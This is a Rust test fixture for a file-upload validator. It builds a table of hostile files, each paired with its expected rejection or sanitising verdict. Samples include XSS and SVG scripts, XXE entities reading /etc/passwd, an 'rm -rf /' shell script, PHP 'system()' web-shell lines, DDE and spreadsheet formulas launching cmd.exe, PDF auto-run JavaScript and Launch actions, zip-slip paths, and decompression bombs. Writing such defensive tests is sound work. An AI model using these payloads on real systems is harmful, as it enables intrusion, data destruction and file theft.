//! The table of files that mean harm, each with what becomes of it.

use files::{ArchiveLimits, Limits, PdfLimits};

use super::{
    Part, animated_webp, chunk, content_types, document, docx, exif, jpeg, jpeg_claiming, jpeg_with, object_stream, pdf, pdf_saying, png,
    png_claiming, png_with, relationship, relationships, stream, webp, word_parts, xlsx, zip, zlib,
};

/// What is sent, under which name, and the verdict. What is accepted must not hold the word, where there is one.
pub struct Case {
    pub what: &'static str,
    pub name: &'static str,
    pub bytes: Vec<u8>,
    pub verdict: &'static str,
    pub gone: &'static [u8],
}

fn case(what: &'static str, name: &'static str, bytes: impl Into<Vec<u8>>, verdict: &'static str) -> Case {
    Case { what, name, bytes: bytes.into(), verdict, gone: b"" }
}

fn redrawn(what: &'static str, name: &'static str, bytes: impl Into<Vec<u8>>, gone: &'static [u8]) -> Case {
    Case { what, name, bytes: bytes.into(), verdict: "accepted", gone }
}

fn behind(mut bytes: Vec<u8>, more: &[u8]) -> Vec<u8> {
    bytes.extend_from_slice(more);
    bytes
}

const SCRIPT: &[u8] = b"<script>window.__xss=1</script>";

fn texts() -> Vec<Case> {
    vec![
        case("nothing", "empty.png", *b"", "empty"),
        case("a web page", "page.html", *b"<!DOCTYPE html><script>alert(1)</script>", "forbidden_type html"),
        case("a web page called a picture", "photo.png", *b"<html><body onload=alert(1)>", "forbidden_type html"),
        case("a web page called a text", "notes.txt", *b"\n\n  <HTML><script>alert(1)</script>", "forbidden_type html"),
        case("a script behind words", "notes.txt", *b"Hello <ScRiPt src=//evil.example></script>", "forbidden_type html"),
        case("a page behind a mark of order", "notes.txt", *b"\xef\xbb\xbf<iframe src=x>", "forbidden_type html"),
        case(
            "a drawing with a script",
            "logo.svg",
            *b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
            "forbidden_type svg",
        ),
        case("a drawing called a picture", "logo.png", *b"<?xml version='1.0'?><svg onload='alert(1)'/>", "forbidden_type svg"),
        case("a drawing behind a comment", "logo.jpg", *b"<!-- x --><svg><foreignObject/></svg>", "forbidden_type svg"),
        case(
            "a drawing that sets a handler",
            "logo.png",
            *b"<svg><set attributeName='onmouseover' to='alert(1)'/></svg>",
            "forbidden_type svg",
        ),
        case("a drawing with an external link", "logo.png", *b"<svg><use href='https://evil.example/#x'/></svg>", "forbidden_type svg"),
        case(
            "a drawing with an entity bomb",
            "logo.svg",
            *b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'aaa'>]><svg>&a;</svg>",
            "forbidden_type svg",
        ),
        case(
            "XML with an external entity",
            "data.txt",
            *b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
            "forbidden_type xml",
        ),
        case("a shell script", "run.txt", *b"#!/bin/sh\nrm -rf /\n", "forbidden_type script"),
        case("a page of PHP", "photo.jpg", *b"<?php system($_GET['c']); ?>", "forbidden_type php"),
        case("PostScript", "paper.txt", *b"%!PS-Adobe-3.0\n(x) run", "forbidden_type postscript"),
        case("rich text", "paper.txt", *b"{\\rtf1\\ansi\\object}", "forbidden_type rtf"),
        case(
            "the test virus",
            "eicar.txt",
            *b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            "forbidden_type eicar",
        ),
        case("a web archive", "page.txt", *b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "forbidden_type mhtml"),
        case("a text with NUL", "notes.txt", *b"Hello\0world", "unknown_type"),
        case("a text with escapes of a terminal", "notes.txt", *b"\x1b]0;owned\x07", "unknown_type"),
        case("a text in another encoding", "notes.txt", *b"\xcf\xf0\xe8\xe2\xe5\xf2", "unknown_type"),
        case("a text in UTF-16", "notes.txt", *b"\xff\xfeH\0i\0", "unknown_type"),
        case("a text called a program", "run.bat", *b"echo hello", "name_mismatch"),
        case("a text called a table of commas", "table.csv", *b"=cmd|'/c calc'!A0,1", "name_mismatch"),
        case("noise", "noise.bin", *b"\x81\x92\xa3\xb4\xc5\xd6\xe7\xf8\x09", "unknown_type"),
    ]
}

fn programs_and_others() -> Vec<Case> {
    let mut exe = vec![0; 256];
    exe[..2].copy_from_slice(b"MZ");
    let elf = behind(b"\x7fELF\x02\x01\x01\0".to_vec(), &[0; 64]);
    let ole = behind(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), &[0; 1024]);
    let locked: Vec<u8> = "EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        case("a program of Windows called a document", "offer.pdf", exe, "forbidden_type exe"),
        case("a program of Linux", "tool.png", elf, "forbidden_type elf"),
        case("WebAssembly", "module.png", *b"\0asm\x01\0\0\0", "forbidden_type wasm"),
        case("an old Word document", "old.doc", ole.clone(), "forbidden_type ole"),
        case("a Word document with a password", "secret.docx", behind(ole, &locked), "encrypted"),
        case("GIF and JavaScript at once", "logo.gif", *b"GIF89a/*\x01\0\x01\0\0\0\0*/=1;alert(1)", "forbidden_type gif"),
        case("the same called a PNG", "logo.png", *b"GIF87a/*\x01\0\x01\0\0\0\0*/=1;alert(1)", "forbidden_type gif"),
        case("a bitmap", "photo.bmp", behind(b"BM".to_vec(), &[0; 64]), "forbidden_type bmp"),
        case("packed by gzip", "logs.txt", *b"\x1f\x8b\x08\0\0\0\0\0\0\x03", "forbidden_type gz"),
        case("packed by RAR", "photos.png", *b"Rar!\x1a\x07\x01\0", "forbidden_type rar"),
        case("packed by 7z", "photos.png", *b"7z\xbc\xaf\x27\x1c\0\x04", "forbidden_type 7z"),
        case("an archive of nothing", "empty.docx", zip(&[]), "forbidden_type zip"),
        case("an archive of files", "photos.zip", zip(&[Part::new("photo.txt", "hello")]), "forbidden_type zip"),
    ]
}

fn pictures() -> Vec<Case> {
    let truncated = |bytes: Vec<u8>, part: usize| bytes[..bytes.len() * part / 100].to_vec();
    let mut broken = png();
    let data = broken.windows(4).position(|kind| kind == b"IDAT").expect("data");
    broken[data + 8] ^= 0xff;
    let apng = png_with(&[chunk(*b"acTL", &[0, 0, 0, 2, 0, 0, 0, 0])]);
    let page = behind(b"Comment\0".to_vec(), SCRIPT);
    // A deflated text of 64 MiB, in a chunk that is metadata.
    let bomb = behind(b"Comment\0\0".to_vec(), &zlib(&vec![b'A'; 64 << 20]));
    vec![
        case("a PNG that claims 60000 x 60000", "photo.png", png_claiming(60_000, 60_000), "too_many_pixels"),
        case("a PNG that claims all there is", "photo.png", png_claiming(u32::MAX, u32::MAX), "too_many_pixels"),
        case("a PNG that claims a long line", "photo.png", png_claiming(100_000, 1), "too_many_pixels"),
        case("a PNG with too many pixels", "photo.png", png_claiming(8000, 8000), "too_many_pixels"),
        case("a PNG that claims more than it has", "photo.png", png_claiming(4000, 4000), "damaged"),
        case("a PNG without pixels", "photo.png", png_claiming(0, 10), "damaged"),
        case("a JPEG that claims 65000 x 65000", "photo.jpg", jpeg_claiming(65_000, 65_000), "too_many_pixels"),
        case("a JPEG without lines", "photo.jpg", jpeg_claiming(100, 0), "damaged"),
        case("a JPEG cut in its header", "photo.jpg", truncated(jpeg(), 30), "damaged"),
        case("a PNG cut in half", "photo.png", truncated(png(), 60), "damaged"),
        case("a WebP cut in half", "photo.webp", truncated(webp(), 60), "damaged"),
        case("a JPEG of three bytes", "photo.jpg", *b"\xff\xd8\xff", "damaged"),
        case("a PNG of its signature", "photo.png", *b"\x89PNG\r\n\x1a\n", "damaged"),
        case("a WebP of its header", "photo.webp", *b"RIFF\x04\0\0\0WEBP", "damaged"),
        case("a PNG with damaged data", "photo.png", broken, "damaged"),
        case("an animated PNG", "photo.png", apng, "animated"),
        case("an animated WebP", "photo.webp", animated_webp(), "animated"),
        case("a picture called a program", "setup.exe", png(), "name_mismatch"),
        case("a picture called a page", "photo.html", jpeg(), "name_mismatch"),
        case("a picture called a drawing", "logo.png.svg", png(), "name_mismatch"),
        redrawn("a PNG with a page behind it", "photo.png", behind(png(), SCRIPT), SCRIPT),
        redrawn("a PNG with a page as comment", "photo.png", png_with(&[chunk(*b"tEXt", &page)]), SCRIPT),
        redrawn("a PNG with a bomb as comment", "photo.png", png_with(&[chunk(*b"zTXt", &bomb)]), b"zTXt"),
        redrawn("a PNG with an archive behind it", "photo.png", behind(png(), &zip(&word_parts())), b"PK\x03\x04"),
        redrawn("a JPEG with a script as comment", "photo.jpg", jpeg_with(0xfe, SCRIPT), SCRIPT),
        redrawn("a JPEG with a script as metadata", "photo.jpg", jpeg_with(0xe1, &exif(1, "<script>window.__xss=1</script>")), SCRIPT),
        redrawn("a JPEG with PHP behind it", "photo.php.jpg", behind(jpeg(), b"<?php system('id'); ?>"), b"<?php"),
        redrawn("a JPEG that says where it was taken", "photo.jpg", jpeg_with(0xe1, &exif(1, "55.7558 N, 37.6173 E")), b"55.7558"),
        redrawn("a WebP with a program behind it", "photo.webp", behind(webp(), b"MZ\x90\0This program"), b"This program"),
    ]
}

fn archives() -> Vec<Case> {
    let body = "word/document.xml";
    let with = |change: fn(&mut Part)| {
        let mut part = Part::new("word/media/image1.txt", "hello");
        change(&mut part);
        docx([part])
    };
    let named = |name: &str| docx([Part::new(name, "hello")]);
    let mut overlapping = zip(&[Part::new("[Content_Types].xml", "<Types/>"), Part::new("b.txt", "hello")]);
    // The second entry of the directory points at the first one's data.
    let second = overlapping.windows(5).rposition(|name| name == b"b.txt").expect("its name");
    overlapping[second - 4..second].copy_from_slice(&[0; 4]);
    let many: Vec<Part> = (0..3000).map(|index| Part::new(&format!("word/{index}.txt"), "")).collect();
    let thick: Vec<Part> = (0..3).map(|index| Part::new(&format!("word/{index}.txt"), stripes(3 << 20))).collect();
    let comment = {
        let mut bytes = docx([]);
        let end = bytes.len();
        bytes[end - 2..].copy_from_slice(&5_u16.to_le_bytes());
        behind(bytes, b"hello")
    };
    vec![
        case("a bomb of zeros", "bomb.docx", docx([Part::new("word/a.bin", vec![0; 3 << 20])]), "archive_bomb"),
        case("a bomb of many megabytes", "bomb.docx", docx(thick), "archive_bomb"),
        case("a bomb in one entry", "bomb.docx", docx([Part::new("word/a.bin", stripes(5 << 20))]), "archive_bomb"),
        case("more entries than allowed", "bomb.docx", docx(many), "archive_bomb"),
        case("entries that share their data", "bomb.docx", overlapping, "damaged"),
        case("an entry that lies about its size", "lie.docx", with(|part| part.size = Some(1)), "archive_bomb"),
        case("an entry shorter than it says", "lie.docx", with(|part| part.size = Some(100)), "damaged"),
        case("an entry with a wrong sum", "lie.docx", with(|part| part.crc = Some(7)), "damaged"),
        case("an entry with two names", "lie.docx", with(|part| part.local_name = Some(b"word/media/image2.txt".to_vec())), "damaged"),
        case("an entry packed by something else", "lie.docx", with(|part| part.method = 14), "damaged"),
        case("an entry with a password", "lock.docx", with(|part| part.flags = 1), "encrypted"),
        case("an entry that is a link", "link.docx", with(|part| part.mode = 0o120_777), "unsafe_path"),
        case("a path that climbs", "slip.docx", named("../../etc/cron.d/evil"), "unsafe_path"),
        case("a path that climbs in the middle", "slip.docx", named("word/../../evil"), "unsafe_path"),
        case("a path from the root", "slip.docx", named("/etc/passwd"), "unsafe_path"),
        case("a path of Windows", "slip.docx", named("..\\..\\evil.dll"), "unsafe_path"),
        case("a path with a drive", "slip.docx", named("C:evil.dll"), "unsafe_path"),
        case("a path with NUL", "slip.docx", named("word/a.txt\0.exe"), "unsafe_path"),
        case("two entries of one name", "twice.docx", docx([Part::new("word/DOCUMENT.xml", document(""))]), "damaged"),
        case("an archive with something behind it", "tail.docx", behind(docx([]), SCRIPT), "polyglot"),
        case("an archive with a comment", "tail.docx", comment, "polyglot"),
        case("an archive with a program before it", "tail.docx", behind(b"MZ\x90\0".to_vec(), &docx([])), "forbidden_type exe"),
        case(
            "an archive cut short",
            "cut.docx",
            {
                let b = docx([]);
                b[..b.len() / 2].to_vec()
            },
            "damaged",
        ),
        case("macros", "macro.docx", docx([Part::new("word/vbaProject.bin", "x")]), "active_content macro"),
        case(
            "a document that says it has macros",
            "macro.docx",
            docx([Part::new("[Content_Types].xml", content_types("application/vnd.ms-word.document.macroEnabled.main+xml", ""))]),
            "active_content macro",
        ),
        case(
            "macros under another name",
            "macro.docx",
            docx([Part::new("word/_rels/document.xml.rels", relationship("vbaProject", "data.bin", ""))]),
            "active_content macro",
        ),
        case("a control", "control.docx", docx([Part::new("word/activeX/activeX1.bin", "x")]), "active_content control"),
        case("an embedded object", "object.docx", docx([Part::new("word/embeddings/oleObject1.bin", "x")]), "active_content control"),
        case(
            "an embedded program",
            "program.docx",
            docx([Part::new("word/media/image1.png", [b"MZ".as_slice(), &[0; 256]].concat())]),
            "active_content embedded_file",
        ),
        case(
            "an embedded archive",
            "nested.docx",
            docx([Part::new("word/a.bin", zip(&[Part::new("a.exe", "x")]))]),
            "active_content embedded_file",
        ),
        case(
            "an embedded document with macros",
            "nested.docx",
            docx([Part::new("word/embeddings/a.docx", docx([Part::new("word/vbaProject.bin", "x")]))]),
            "active_content macro",
        ),
        case(
            "documents within documents",
            "nested.docx",
            docx([Part::new("word/a.docx", docx([Part::new("word/b.docx", docx([]))]))]),
            "active_content embedded_file",
        ),
        case(
            "a template from afar",
            "template.docx",
            docx([Part::new(
                "word/_rels/settings.xml.rels",
                relationship("attachedTemplate", "https://evil.example/t.dotm", "TargetMode=\"External\""),
            )]),
            "active_content external_link",
        ),
        case(
            "a picture from afar, its mode escaped",
            "beacon.docx",
            docx([Part::new(
                "word/_rels/document.xml.rels",
                relationship("image", "https://evil.example/i.png", "TargetMode=\"&#69;xternal\""),
            )]),
            "active_content external_link",
        ),
        case(
            "a foreign part to be taken in",
            "chunk.docx",
            docx([Part::new("word/_rels/document.xml.rels", relationship("aFChunk", "page.html", ""))]),
            "active_content embedded_file",
        ),
        case(
            "a field that starts a program",
            "dde.docx",
            docx([Part::new(body, document("<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"))]),
            "active_content field",
        ),
        case(
            "the same in pieces",
            "dde.docx",
            docx([Part::new(body, document("<w:instrText>DD</w:instrText><w:instrText>E&#65;UTO x</w:instrText>"))]),
            "active_content field",
        ),
        case(
            "the same in an attribute",
            "dde.docx",
            docx([Part::new(body, document("<w:fldSimple w:instr=\"DDE cmd\"/>"))]),
            "active_content field",
        ),
        case(
            "an external entity",
            "xxe.docx",
            docx([Part::new(body, "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><d>&e;</d>")]),
            "external_entity",
        ),
        case(
            "an entity bomb",
            "lol.docx",
            docx([Part::new(body, "<!DOCTYPE d [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><d>&b;</d>")]),
            "external_entity",
        ),
        case(
            "an entity in the relationships",
            "xxe.docx",
            docx([Part::new("_rels/.rels", format!("<!DOCTYPE d SYSTEM 'http://evil.example/d'>{}", relationships("")))]),
            "external_entity",
        ),
        case("an entity nobody declared", "xxe.docx", docx([Part::new(body, document("&evil;"))]), "external_entity"),
        case(
            "XML in UTF-16, with an entity",
            "wide.docx",
            docx([Part::new(body, "\u{feff}<!DOCTYPE d>".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())]),
            "damaged",
        ),
        case(
            "XML that claims UTF-7",
            "seven.docx",
            docx([Part::new(body, "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-/d+AD4-<d/>")]),
            "damaged",
        ),
        case("XML nested without end", "deep.docx", docx([Part::new(body, "<a>".repeat(100_000))]), "archive_bomb"),
        case("XML cut short", "cut.docx", docx([Part::new(body, "<a><b></b>")]), "damaged"),
        case(
            "a presentation called a document",
            "talk.docx",
            docx([Part::new(
                "[Content_Types].xml",
                content_types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", ""),
            )]),
            "forbidden_type pptx",
        ),
        case("a document without its main part", "hollow.docx", zip(&word_parts()[..2]), "damaged"),
        case("a workbook called a document", "table.docx", xlsx(), "name_mismatch"),
        case("a document called a PDF", "paper.pdf", docx([]), "name_mismatch"),
        case("a workbook that starts a program", "calc.xlsx", workbook("<f>cmd|'/c calc'!A0</f>"), "active_content formula"),
        case("the same, escaped", "calc.xlsx", workbook("<f>cmd&#124;'/c calc'!A0</f>"), "active_content formula"),
        case("a workbook with a link that runs", "link.xlsx", workbook("<ddeLink ddeService=\"cmd\"/>"), "active_content external_link"),
        case("a workbook with macros of 1992", "old.xlsx", docx([Part::new("xl/macrosheets/sheet1.xml", "<a/>")]), "active_content macro"),
    ]
}

/// A workbook by hand, with this in its only cell.
fn workbook(cell: &str) -> Vec<u8> {
    let main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    let types = content_types(main, "").replace("/word/document.xml", "/xl/workbook.xml");
    zip(&[
        Part::new("[Content_Types].xml", types),
        Part::new("xl/workbook.xml", "<workbook/>"),
        Part::new("xl/worksheets/sheet1.xml", format!("<worksheet><sheetData><row><c>{cell}</c></row></sheetData></worksheet>")),
    ])
}

/// Bytes that pack well, but not as well as zeros.
pub fn stripes(length: usize) -> Vec<u8> {
    let mut state = 7_u32;
    let mut bytes = Vec::with_capacity(length + 64);
    while bytes.len() < length {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let [a, b, c, d] = state.to_be_bytes();
        bytes.extend_from_slice(&[a; 48]);
        bytes.extend_from_slice(&[b, c, d]);
    }
    bytes.truncate(length);
    bytes
}

fn documents() -> Vec<Case> {
    let action = |action: &str| vec![action.as_bytes().to_vec()];
    let script = "<< /S /JavaScript /JS (app.alert(1)) >>";
    let hex = script.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().concat();
    let mut unended = pdf_saying("", &[]);
    unended.truncate(unended.len() - 20);
    vec![
        case(
            "a script on opening",
            "case.pdf",
            pdf_saying("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", &[]),
            "active_content javascript",
        ),
        case("a script elsewhere", "case.pdf", pdf_saying("/OpenAction 5 0 R", &action(script)), "active_content javascript"),
        case(
            "a script, its name escaped",
            "case.pdf",
            pdf_saying("/OpenAction << /S /J#61va#53cript /JS (x) >>", &[]),
            "active_content javascript",
        ),
        case(
            "a script in an object stream",
            "case.pdf",
            pdf_saying("/OpenAction 6 0 R", &[object_stream(6, script)]),
            "active_content javascript",
        ),
        case(
            "a script in a stream that hides its type",
            "case.pdf",
            pdf_saying("", &[stream("/Filter /FlateDecode /N 1 /First 4", &zlib(format!("6 0 {script}").as_bytes()))]),
            "active_content javascript",
        ),
        case(
            "a script in a list of names",
            "case.pdf",
            pdf_saying("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", &action("<< >>")),
            "active_content javascript",
        ),
        case(
            "objects packed twice",
            "case.pdf",
            pdf_saying("", &[stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /ASCIIHexDecode]", &zlib(hex.as_bytes()))]),
            "damaged",
        ),
        case(
            "objects packed some other way",
            "case.pdf",
            pdf_saying("", &[stream("/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", hex.as_bytes())]),
            "damaged",
        ),
        case(
            "objects packed as is said elsewhere",
            "case.pdf",
            pdf_saying("", &[stream("/Type /ObjStm /N 1 /First 4 /Filter 9 0 R", hex.as_bytes())]),
            "damaged",
        ),
        case(
            "objects that do not unpack",
            "case.pdf",
            pdf_saying("", &[stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"x\x9cnoise")]),
            "damaged",
        ),
        case(
            "a program to start",
            "case.pdf",
            pdf_saying("", &action("<< /S /Launch /Win << /F (cmd.exe) >> >>")),
            "active_content launch",
        ),
        case("a file within", "case.pdf", pdf_saying("", &[stream("/Type /EmbeddedFile", b"MZ")]), "active_content embedded_file"),
        case(
            "a list of files within",
            "case.pdf",
            pdf_saying("/Names << /EmbeddedFiles 5 0 R >>", &action("<< >>")),
            "active_content embedded_file",
        ),
        case("a jump into a file within", "case.pdf", pdf_saying("", &action("<< /S /GoToE >>")), "active_content embedded_file"),
        case(
            "a page on the web on opening",
            "case.pdf",
            pdf_saying("/OpenAction << /S /URI /URI (https://evil.example) >>", &[]),
            "active_content open_action",
        ),
        case(
            "the same elsewhere",
            "case.pdf",
            pdf_saying("/OpenAction 5 0 R", &action("<< /S /URI /URI (https://evil.example) >>")),
            "active_content open_action",
        ),
        case(
            "the same after a harmless one",
            "case.pdf",
            pdf_saying("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI >> >>", &[]),
            "active_content open_action",
        ),
        case(
            "the same after a harmless one, elsewhere",
            "case.pdf",
            pdf_saying("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", &action("<< /S /URI >>")),
            "active_content open_action",
        ),
        case(
            "the same in an object stream",
            "case.pdf",
            pdf_saying("/OpenAction 6 0 R", &[object_stream(6, "<< /S /URI /URI (x) >>")]),
            "active_content open_action",
        ),
        case("opening by an object that is not there", "case.pdf", pdf_saying("/OpenAction 77 0 R", &[]), "active_content open_action"),
        case(
            "an address that is opened when the first page is shown",
            "case.pdf",
            pdf_saying("/AA << /O << /S /URI /URI (https://evil.example/) >> >>", &[]),
            "active_content additional_action",
        ),
        case(
            "the same with its name written another way",
            "case.pdf",
            pdf_saying("/#41A << /O << /S /GoTo /D [0 /Fit] >> >>", &[]),
            "active_content additional_action",
        ),
        case(
            "going to a document elsewhere",
            "case.pdf",
            pdf_saying("/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>", &[]),
            "active_content remote_file",
        ),
        case(
            "opening said more often than any document says it",
            "case.pdf",
            pdf_saying(&"/OpenAction [0 /Fit] ".repeat(17), &[]),
            "active_content open_action",
        ),
        case(
            "a form that sends itself",
            "case.pdf",
            pdf_saying("", &action("<< /S /SubmitForm /F (https://evil.example) >>")),
            "active_content form",
        ),
        case("a form of XML", "case.pdf", pdf_saying("/AcroForm << /XFA 5 0 R >>", &action("<< >>")), "active_content form"),
        case("a film", "case.pdf", pdf_saying("", &action("<< /Subtype /RichMedia >>")), "active_content media"),
        case(
            "a document with a password",
            "case.pdf",
            pdf(&["<< /Type /Catalog >>"], "/Encrypt << /Filter /Standard /V 4 >>"),
            "encrypted",
        ),
        case("a page before the words", "case.pdf", pdf_saying("/X (<script>alert(1)</script>)", &[]), "polyglot"),
        case("a page behind the end", "case.pdf", behind(pdf_saying("", &[]), SCRIPT), "polyglot"),
        case("an archive behind the end", "case.pdf", behind(pdf_saying("", &[]), &zip(&[Part::new("evil.jar", "x")])), "polyglot"),
        case("a page of bombs", "case.pdf", pdf_saying("", &[stream("/Filter /FlateDecode", &zlib(&vec![0; 10 << 20]))]), "archive_bomb"),
        case("a document without its end", "case.pdf", unended, "damaged"),
        case("a document of its first line", "case.pdf", *b"%PDF-1.7\n", "damaged"),
        case("a document that points past its end", "case.pdf", *b"%PDF-1.4\nstartxref\n99999\n%%EOF", "damaged"),
        case("a document called a picture", "case.png", pdf_saying("", &[]), "name_mismatch"),
        case("a document with two extensions", "case.pdf.exe", pdf_saying("", &[]), "name_mismatch"),
        case("a document behind something else", "case.txt", behind(b"hello ".to_vec(), &pdf_saying("", &[])), "polyglot"),
    ]
}

/// The usual ones, but that a bomb of a few megabytes will do.
pub fn limits() -> Limits {
    let Limits { archive, pdf, .. } = Limits::default();
    let archive = ArchiveLimits { entry_bytes: 4 << 20, total_bytes: 8 << 20, ..archive };
    Limits { archive, pdf: PdfLimits { total_bytes: 8 << 20, ..pdf }, ..Limits::default() }
}

/// All of them.
pub fn all() -> Vec<Case> {
    let cases: Vec<Case> = [texts(), programs_and_others(), pictures(), archives(), documents()].into_iter().flatten().collect();
    assert!(cases.len() >= 60, "{} files are no table", cases.len());
    cases
}
